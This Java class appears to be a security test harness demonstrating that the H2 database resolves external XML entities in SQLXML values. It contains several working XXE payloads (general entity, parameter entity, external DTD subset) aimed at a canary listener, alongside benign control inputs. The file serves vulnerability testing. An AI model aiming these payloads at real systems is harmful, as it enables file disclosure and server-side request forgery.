import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.SQLXML;
import javax.xml.transform.dom.DOMSource;
import underpin.canary.Attempts;
import underpin.canary.Canary;
import underpin.canary.Demonstration;

/** External entities in an SQL XML value are fetched (h2). */
public final class H2SqlXml implements Demonstration {
  @Override
  public void attempts(Attempts to) throws Exception {
    to.proof("general entity", c -> source(Canary.externalEntity(c.listener("x"))));
    to.variant("parameter entity", c -> source("<!DOCTYPE r [<!ENTITY % e SYSTEM \"" + c.listener("").url("e") + "\"> %e;]><r/>"));
    to.variant("external subset", c -> source("<!DOCTYPE r SYSTEM \"" + c.listener("<!ELEMENT r ANY>").url("e") + "\"><r/>"));
    to.variant("after text", c -> source("<!DOCTYPE r [<!ENTITY e SYSTEM \"" + c.listener("x").url("e") + "\">]><r><a>t</a> u &e;</r>"));
    to.control("documents", c -> source("<a><b>t</b><b>u</b></a>"));
    to.control("broken", c -> source("<a><b></a>"));
    to.replay("documents", (c, r) -> source("<a>" + Canary.repeat("<b>" + r.nextInt() + "</b>", 1 + r.nextInt(3)) + "</a>"));
  }

  private static String source(String xml) throws Exception {
    try (Connection connection = DriverManager.getConnection("jdbc:h2:mem:")) {
      SQLXML value = connection.createSQLXML();
      value.setString(xml);
      DOMSource source = value.getSource(DOMSource.class);
      return source.getNode().getFirstChild().getNodeName() + source.getNode().getFirstChild().getTextContent();
    }
  }
}
